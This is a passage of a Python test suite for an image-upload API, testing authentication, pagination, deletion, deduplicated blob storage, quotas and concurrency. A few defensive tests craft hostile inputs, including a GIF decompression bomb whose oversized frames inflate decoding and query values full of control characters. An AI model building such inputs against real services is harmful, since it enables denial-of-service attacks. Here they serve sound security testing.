        api.post("/images", body=body, headers={**headers, "Content-Type": content_type}),
        api.post("/images", body=jpeg((20, 20)), headers={**headers, "Content-Type": "image/jpeg"}),
        api.get("/images", headers=headers),
        api.get("/images?limit=5", headers=headers),
        api.delete(f"/images/{image['id']}", headers=headers),
    ]
    for response in await asyncio.gather(*calls):
        assert response.code == 401 and response.error == "unauthorized"
    assert count(app, Image) == 1 and len(stored(app, "blobs")) == 1
    assert_no_temp_files(app)


@gen_test
async def test_a_logged_out_token_cannot_upload(api, user, app):
    assert (await api.post("/users/logout", token=user.token)).code == 204
    response = await upload(api, user.token, jpeg())
    assert response.code == 401 and response.error == "unauthorized"
    assert_nothing_stored(app)


@pytest.mark.settings(max_upload_bytes=LIMIT)
@gen_test
async def test_token_is_checked_before_the_body_is_read(app, user, http_port):
    head = request_head("wrong-token", "image/jpeg", length=LIMIT)  # no body follows
    status, _, body = await raw_http(http_port, head)
    assert status == 401 and json_error(body) == "unauthorized"
    assert_nothing_stored(app)


# -- listing ---------------------------------------------------------------------------------------


@gen_test
async def test_listing_shows_own_images_newest_first(api, user, outbox):
    mine = [await uploaded(api, user.token, jpeg((30 + i, 20))) for i in range(3)]
    other_token = await second_user(api, outbox)
    theirs = await uploaded(api, other_token, jpeg((30, 20)))  # the same bytes as one of mine

    listed = await api.get("/images", token=user.token)
    assert listed.code == 200
    assert set(listed.json) == {"images", "next_cursor"} and listed.json["next_cursor"] is None
    assert listed.json["images"] == list(reversed(mine))
    assert theirs["id"] not in {i["id"] for i in listed.json["images"]}

    listed = await api.get("/images", token=other_token)
    assert [i["id"] for i in listed.json["images"]] == [theirs["id"]]


@gen_test
async def test_listing_is_empty_for_a_new_user(api, user):
    listed = await api.get("/images", token=user.token)
    assert listed.code == 200 and listed.json == {"images": [], "next_cursor": None}


@gen_test
async def test_cursor_pagination(api, user):
    ids = [(await uploaded(api, user.token, jpeg((20 + i, 20))))["id"] for i in range(5)]
    seen, cursor, pages = [], None, []
    while True:
        query = "/images?limit=2" + (f"&cursor={cursor}" if cursor else "")
        response = await api.get(query, token=user.token)
        assert response.code == 200, response.body
        page = [i["id"] for i in response.json["images"]]
        pages.append(len(page))
        seen += page
        cursor = response.json["next_cursor"]
        if cursor is None:
            break
        assert re.fullmatch(r"[A-Za-z0-9_-]+", cursor)
    assert pages == [2, 2, 1]
    assert seen == list(reversed(ids))

    exact = await api.get("/images?limit=5", token=user.token)
    assert len(exact.json["images"]) == 5 and exact.json["next_cursor"] is None
    default = await api.get("/images", token=user.token)
    assert len(default.json["images"]) == 5


@gen_test
async def test_pagination_survives_deletes_and_new_uploads(api, user):
    ids = [(await uploaded(api, user.token, jpeg((20 + i, 20))))["id"] for i in range(4)]
    first = await api.get("/images?limit=2", token=user.token)
    assert [i["id"] for i in first.json["images"]] == [ids[3], ids[2]]
    await uploaded(api, user.token, jpeg((50, 20)))  # newer: belongs before the first page
    assert (await api.delete(f"/images/{ids[1]}", token=user.token)).code == 204
    rest = await api.get(f"/images?limit=2&cursor={first.json['next_cursor']}", token=user.token)
    assert [i["id"] for i in rest.json["images"]] == [ids[0]] and rest.json["next_cursor"] is None


@pytest.mark.parametrize("limit", ["0", "101", "-1", "abc", "1.5", "", "1e2"])
@gen_test
async def test_limit_out_of_range_is_422(api, user, limit):
    response = await api.get(f"/images?limit={limit}", token=user.token)
    assert_error(response, 422, "invalid_field", "limit")


@pytest.mark.parametrize("limit", ["1", "100"])
@gen_test
async def test_limit_bounds_are_accepted(api, user, limit):
    await uploaded(api, user.token, jpeg())
    await uploaded(api, user.token, jpeg())
    response = await api.get(f"/images?limit={limit}", token=user.token)
    assert response.code == 200 and len(response.json["images"]) == min(int(limit), 2)


@pytest.mark.parametrize("cursor", ["garbage!", "bm9wZQ", "djE6YWJj", "v1:12", "djI6MTI", "djE6LTE"])
@gen_test
async def test_bad_cursor_is_422(api, user, cursor):
    response = await api.get(f"/images?cursor={cursor}", token=user.token)
    assert_error(response, 422, "invalid_field", "cursor")


@pytest.mark.parametrize(
    "name, value",
    [
        ("cursor", "\x01" * 257),
        ("cursor", " \t\r\n\x0b\x0c"),
        ("cursor", "djE6NQ\x00"),
        ("cursor", "\x1fdjE6NQ"),
        ("cursor", "dj E6NQ"),
        ("cursor", "djE6MDU"),
        ("limit", "\x01" * 257),
        ("limit", "20\x0b"),
        ("limit", " 20"),
        ("limit", "\u00b2"),
        ("limit", "\u0663"),
    ],
)
@gen_test
async def test_control_characters_and_lookalikes_in_query_arguments_are_422(api, user, name, value):
    """Checked as sent: not stripped to an empty (absent) value, and no other spelling of a valid one."""
    await uploaded(api, user.token, jpeg())
    response = await api.get(f"/images?{urlencode({name: value})}", token=user.token)
    assert_error(response, 422, "invalid_field", name)


# -- deleting --------------------------------------------------------------------------------------


@gen_test
async def test_delete_own_image(api, user, app):
    image = await uploaded(api, user.token, jpeg())
    response = await api.delete(f"/images/{image['id']}", token=user.token)
    assert response.code == 204 and response.body == b""
    assert (await fetch(api, image["url"])).code == 404
    assert (await fetch(api, image["thumbnails"]["160"])).code == 404
    assert (await api.get("/images", token=user.token)).json["images"] == []
    again = await api.delete(f"/images/{image['id']}", token=user.token)
    assert again.code == 404 and again.error == "not_found"
    assert_nothing_stored(app)


@gen_test
async def test_deleting_someone_elses_image_is_404_and_it_stays(api, user, app, outbox):
    image = await uploaded(api, user.token, jpeg())
    other_token = await second_user(api, outbox)
    response = await api.delete(f"/images/{image['id']}", token=other_token)
    assert response.code == 404 and response.error == "not_found"
    assert (await fetch(api, image["url"])).code == 200
    assert [i["id"] for i in (await api.get("/images", token=user.token)).json["images"]] == [image["id"]]
    assert count(app, Image) == 1


@pytest.mark.parametrize("image_id", ["unknown", secrets.token_urlsafe(16), "a" * 40, "x" * 22])
@gen_test
async def test_deleting_unknown_ids_is_404(api, user, image_id):
    response = await api.delete(f"/images/{image_id}", token=user.token)
    assert response.code == 404 and response.error == "not_found"


@gen_test
async def test_shared_blob_and_its_thumbnails_go_with_the_last_image(api, user, app, outbox):
    data = jpeg((400, 300))
    first = await uploaded(api, user.token, data)
    other_token = await second_user(api, outbox)
    second = await uploaded(api, other_token, data)
    assert first["sha256"] == second["sha256"] and first["id"] != second["id"]
    sha = first["sha256"]
    store = app.services.store
    assert stored(app, "blobs") == [object_name(sha)]
    assert blob_refs(app, sha) == 2
    assert (await fetch(api, first["thumbnails"]["160"])).code == 200
    assert (await fetch(api, second["thumbnails"]["320"])).code == 200
    assert stored_objects(app.services.settings) == sorted(
        [object_name(sha), object_name(sha, 160), object_name(sha, 320)]
    )

    assert (await api.delete(f"/images/{first['id']}", token=user.token)).code == 204
    assert store.exists(sha) and stored_thumbnails(app, sha) == [160, 320]
    assert blob_refs(app, sha) == 1
    assert (await fetch(api, first["url"])).code == 404
    assert (await fetch(api, second["url"])).code == 200

    assert (await api.delete(f"/images/{second['id']}", token=other_token)).code == 204
    assert not store.exists(sha) and stored_thumbnails(app, sha) == []
    assert_nothing_stored(app)

    # The same bytes again: stored afresh and served.
    again = await uploaded(api, user.token, data)
    assert again["sha256"] == sha and store.exists(sha) and blob_refs(app, sha) == 1
    assert (await fetch(api, again["url"])).code == 200


@gen_test
async def test_the_same_image_uploaded_ten_times_concurrently_is_one_blob_and_ten_rows(api, user, app):
    data = jpeg((300, 200))
    responses = await asyncio.gather(*(upload(api, user.token, data) for _ in range(10)))
    assert [r.code for r in responses] == [201] * 10, [r.body for r in responses if r.code != 201]
    images = [r.json["image"] for r in responses]
    assert len({i["id"] for i in images}) == 10 and len({i["sha256"] for i in images}) == 1
    assert count(app, Image) == 10 and count(app, ImageBlob) == 1
    assert blob_refs(app, images[0]["sha256"]) == 10
    assert stored_objects(app.services.settings) == [object_name(images[0]["sha256"])]
    assert_no_temp_files(app)
    listed = await api.get("/images?limit=100", token=user.token)
    assert len(listed.json["images"]) == 10


@gen_test
async def test_concurrent_uploads_of_the_same_bytes_by_different_users(api, user, app, outbox):
    other_token = await second_user(api, outbox)
    data = jpeg((300, 200))
    responses = await asyncio.gather(*(upload(api, token, data) for token in [user.token, other_token] * 5))
    assert [r.code for r in responses] == [201] * 10, [r.body for r in responses if r.code != 201]
    assert count(app, Image) == 10 and count(app, ImageBlob) == 1
    assert len(stored(app, "blobs")) == 1


@gen_test
async def test_two_users_uploading_the_same_bytes_at_once_share_one_object_until_both_are_deleted(
    api, user, app, outbox
):
    """Content-addressed on either store: one object (the S3 put is conditional), exact references, and
    the object with its thumbnails removed from the store only with the last image that uses it."""
    other_token = await second_user(api, outbox)
    data = jpeg((500, 400))
    responses = await asyncio.gather(upload(api, user.token, data), upload(api, other_token, data))
    assert [r.code for r in responses] == [201, 201], [r.body for r in responses]
    mine, theirs = (r.json["image"] for r in responses)
    sha = mine["sha256"]
    assert theirs["sha256"] == sha and mine["id"] != theirs["id"]
    assert stored_objects(app.services.settings) == [object_name(sha)] and blob_refs(app, sha) == 2
    for image in (mine, theirs):
        assert (await fetch(api, image["thumbnails"]["160"])).code == 200
    assert (await fetch(api, theirs["thumbnails"]["320"])).code == 200
    everything = sorted([object_name(sha), object_name(sha, 160), object_name(sha, 320)])
    assert stored_objects(app.services.settings) == everything

    assert (await api.delete(f"/images/{mine['id']}", token=user.token)).code == 204
    assert stored_objects(app.services.settings) == everything and blob_refs(app, sha) == 1
    served = await fetch(api, theirs["url"])
    assert served.code == 200 and hashlib.sha256(served.body).hexdigest() == sha

    assert (await api.delete(f"/images/{theirs['id']}", token=other_token)).code == 204
    assert blob_refs(app, sha) is None
    assert_nothing_stored(app)


@gen_test
async def test_concurrent_deletes_and_uploads_of_the_same_bytes_never_lose_the_file(api, user, app):
    data = jpeg((300, 200))
    existing = [await uploaded(api, user.token, data) for _ in range(5)]
    calls = [api.delete(f"/images/{i['id']}", token=user.token) for i in existing]
    calls += [upload(api, user.token, data) for _ in range(5)]
    responses = await asyncio.gather(*calls)
    assert [r.code for r in responses] == [204] * 5 + [201] * 5
    survivors = [r.json["image"] for r in responses[5:]]
    assert count(app, Image) == 5 and blob_refs(app, survivors[0]["sha256"]) == 5
    for image in survivors:
        assert (await fetch(api, image["url"])).code == 200


@gen_test
async def test_delete_with_a_file_path_is_not_allowed(api, user, app):
    image = await uploaded(api, user.token, jpeg())
    response = await api.delete(path_of(image["url"]), token=user.token)
    assert response.code == 405 and response.error == "method_not_allowed"
    assert count(app, Image) == 1


# -- quotas and the profile's image_count ----------------------------------------------------------


@pytest.mark.settings(image_quota_count=2)
@gen_test
async def test_count_quota(api, user, app):
    first = await uploaded(api, user.token, jpeg((20, 20)))
    await uploaded(api, user.token, jpeg((21, 20)))
    response = await upload(api, user.token, jpeg((22, 20)))
    assert response.code == 403 and response.error == "quota_exceeded"
    assert count(app, Image) == 2 and len(stored(app, "blobs")) == 2
    assert_no_temp_files(app)
    assert (await api.delete(f"/images/{first['id']}", token=user.token)).code == 204
    assert (await upload(api, user.token, jpeg((22, 20)))).code == 201


@pytest.mark.settings(image_quota_count=3)
@gen_test
async def test_count_quota_holds_under_concurrent_uploads(api, user, app):
    responses = await asyncio.gather(*(upload(api, user.token, jpeg((20 + i, 20))) for i in range(8)))
    codes = sorted(r.code for r in responses)
    assert codes == [201] * 3 + [403] * 5
    assert all(r.error == "quota_exceeded" for r in responses if r.code == 403)
    assert count(app, Image) == 3 and len(stored(app, "blobs")) == 3
    assert_no_temp_files(app)


@pytest.mark.settings(image_quota_count=1)
@gen_test
async def test_quotas_are_per_user(api, user, outbox):
    await uploaded(api, user.token, jpeg())
    other_token = await second_user(api, outbox)
    await uploaded(api, other_token, jpeg())


@pytest.mark.settings(image_quota_bytes=8 * KIB)
@gen_test
async def test_byte_quota(api, user, app):
    a = await uploaded(api, user.token, encode(noise((40, 40), seed=1), "PNG"), content_type="image/png")
    b_data = encode(noise((40, 40), seed=2), "PNG")
    response = await upload(api, user.token, b_data, content_type="image/png")
    assert response.code == 403 and response.error == "quota_exceeded"
    assert count(app, Image) == 1 and len(stored(app, "blobs")) == 1
    assert_no_temp_files(app)
    assert (await api.delete(f"/images/{a['id']}", token=user.token)).code == 204
    b = await uploaded(api, user.token, b_data, content_type="image/png")
    assert a["bytes"] + b["bytes"] > 8 * KIB  # the refusal was the sum, not either image alone


@gen_test
async def test_profile_reports_image_count(api, user, outbox):
    async def image_count(token: str) -> int:
        response = await api.get("/users/me", token=token)
        assert response.code == 200
        return response.json["user"]["image_count"]

    assert await image_count(user.token) == 0
    images = [await uploaded(api, user.token, jpeg()) for _ in range(3)]
    other_token = await second_user(api, outbox)
    await uploaded(api, other_token, jpeg())
    assert await image_count(user.token) == 3
    await api.delete(f"/images/{images[0]['id']}", token=user.token)
    assert await image_count(user.token) == 2
    assert await image_count(other_token) == 1


@gen_test
async def test_a_missing_blob_is_a_json_404_and_logs_an_error(api, user, app, caplog):
    image = await uploaded(api, user.token, jpeg((400, 300)))
    app.services.store.delete(image["sha256"], [])  # the store lost the blob; the rows still point at it
    for url in (image["url"], image["thumbnails"]["160"]):
        assert_error(await fetch(api, url), 404, "not_found")
    missing = [r for r in caplog.records if r.levelname == "ERROR" and "missing from the store" in r.getMessage()]
    assert len(missing) == 2


@gen_test
async def test_expect_100_continue_is_answered_only_when_the_upload_will_be_read(app, user, http_port):
    data = jpeg((40, 30))
    async with raw_socket(http_port) as conn:
        extra = "Expect: 100-continue\r\nConnection: close\r\n"
        await conn.send(request_head(user.token, "image/jpeg", length=len(data), extra=extra))
        interim = await conn.read_until(b"\r\n\r\n")
        assert interim.startswith(b"HTTP/1.1 100")
        await conn.send(data)
        response = await conn.read_to_end()
    status, _, body = parse_raw_response(response)
    assert status == 201, body
    assert count(app, Image) == 1

    # Refused up front: the final answer comes at once, with no 100 before it.
    extra = "Expect: 100-continue\r\n"
    status, _, body = await raw_http(http_port, request_head(user.token, "text/html", length=100, extra=extra))
    assert status == 415 and json_error(body) == "unsupported_media_type"


@gen_test
async def test_a_gif_whose_frames_are_larger_than_its_canvas_is_422_before_any_decode(api, user, monkeypatch):
    # Pillow grows the image to fit such a frame: 10x10 declared, 5 x 4 M pixels decoded.
    bomb = gif_of((10, 10), [(10, 10)] + [(2000, 2000)] * 5)
    assert PILImage.open(io.BytesIO(bomb)).size == (10, 10)
    with pytest.raises(InvalidImage):
        imaging.measure_upload(bomb, 40_000_000, 16_000_000)
    decodes = []
    monkeypatch.setattr(imaging, "process_upload", lambda *args: decodes.append(args))
    response = await upload(api, user.token, bomb, content_type="image/gif")
    assert response.code == 422 and response.error == "invalid_image" and not decodes


# -- animations within the cap ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["GIF", "PNG", "WEBP"])
@gen_test
async def test_an_animation_within_the_cap_is_stored_with_its_frames_and_thumbnails(api, user, fmt):
    image = await uploaded(api, user.token, animation(fmt, 60, (256, 256)), content_type=MIME[fmt])
    for url, width in ((image["url"], 256), (image["thumbnails"]["160"], 160)):
        served = await fetch(api, url)
        assert served.code == 200 and served.headers["Content-Type"] == MIME[fmt]
        stored = open_image(served.body)
        assert stored.format == fmt and stored.width == width and stored.n_frames > 1


@pytest.mark.settings(max_animation_pixels=60 * 256 * 256 - 1)
@gen_test
async def test_the_animation_cap_is_a_setting(api, user):
    response = await upload(api, user.token, animation("GIF", 60, (256, 256)), content_type="image/gif")
    assert response.code == 422 and response.error == "invalid_image"
    assert "frames" in response.json["error"]["message"]


@gen_test
async def test_a_thumbnail_waits_for_room_in_the_decode_budget(api, user, app):
    image = await uploaded(api, user.token, animation("GIF", 30, (400, 300)), content_type="image/gif")
    budget = app.services.images.decoding
    async with budget.reserve(budget.capacity):  # uploads are decoding all the budget allows
        thumbnail = asyncio.ensure_future(fetch(api, image["thumbnails"]["160"]))
        await asyncio.sleep(0.5)
        assert not thumbnail.done() and stored_thumbnails(app, image["sha256"]) == []
    response = await thumbnail
    assert response.code == 200 and open_image(response.body).n_frames > 1


@gen_test
async def test_concurrent_requests_for_a_new_thumbnail_make_it_once_in_one_build(api, user, app, monkeypatch):
    image = await uploaded(api, user.token, animation("GIF", 30, (400, 300)), content_type="image/gif")
    store, put = app.services.store, []
    real_put = store.put

    # The real store, watched: every build puts its thumbnail (a PUT on S3, on a worker thread); the
    # waiters share the first request's build instead of each making and storing their own.
    def putting(*args: Any, **kwargs: Any) -> None:
        put.append(kwargs.get("width"))
        real_put(*args, **kwargs)

    monkeypatch.setattr(store, "put", putting)
    responses = await asyncio.gather(*(fetch(api, image["thumbnails"]["320"]) for _ in range(8)))
    assert [r.code for r in responses] == [200] * 8 and len({r.body for r in responses}) == 1
    assert put == [320] and stored_thumbnails(app, image["sha256"]) == [320]


# -- the same upload again -------------------------------------------------------------------------


@gen_test
async def test_the_same_bytes_uploaded_again_are_stored_without_a_second_decode(api, user, app, monkeypatch):
    decoded = []
    process_upload = imaging.process_upload

    def counting(*args: Any) -> imaging.ProcessedImage:
        decoded.append(args)
        return process_upload(*args)

    monkeypatch.setattr(imaging, "process_upload", counting)
    data = animation("GIF", 20, (120, 90))
    first = await uploaded(api, user.token, data, content_type="image/gif")
    again = await asyncio.gather(*(uploaded(api, user.token, data, content_type="image/gif") for _ in range(3)))
    assert len(decoded) == 1
    for image in again:
        assert image["id"] != first["id"]
        assert {k: image[k] for k in ("sha256", "format", "width", "height", "bytes")} == {
            k: first[k] for k in ("sha256", "format", "width", "height", "bytes")
        }
        assert (await fetch(api, image["url"])).code == 200

    # The blob gone from the store (whatever the reason): the upload is decoded again and the blob is back.
    store = app.services.store
    store.delete(first["sha256"], [])
    image = await uploaded(api, user.token, data, content_type="image/gif")
    assert len(decoded) == 2 and image["sha256"] == first["sha256"] and store.exists(first["sha256"])
    assert blob_refs(app, first["sha256"]) == 5


@gen_test
async def test_another_users_bytes_are_decoded_so_timing_cannot_tell_they_were_uploaded(api, user, outbox, monkeypatch):
    decoded = []
    process_upload = imaging.process_upload
    monkeypatch.setattr(imaging, "process_upload", lambda *a: (decoded.append(a), process_upload(*a))[1])
    data = animation("GIF", 5, (60, 40))
    first = await uploaded(api, user.token, data, content_type="image/gif")
    other_token = await second_user(api, outbox)
    theirs = await uploaded(api, other_token, data, content_type="image/gif")
    assert len(decoded) == 2 and theirs["sha256"] == first["sha256"]
    # Each uploader's own re-upload takes the shortcut.
    await uploaded(api, user.token, data, content_type="image/gif")
    await uploaded(api, other_token, data, content_type="image/gif")
    assert len(decoded) == 2
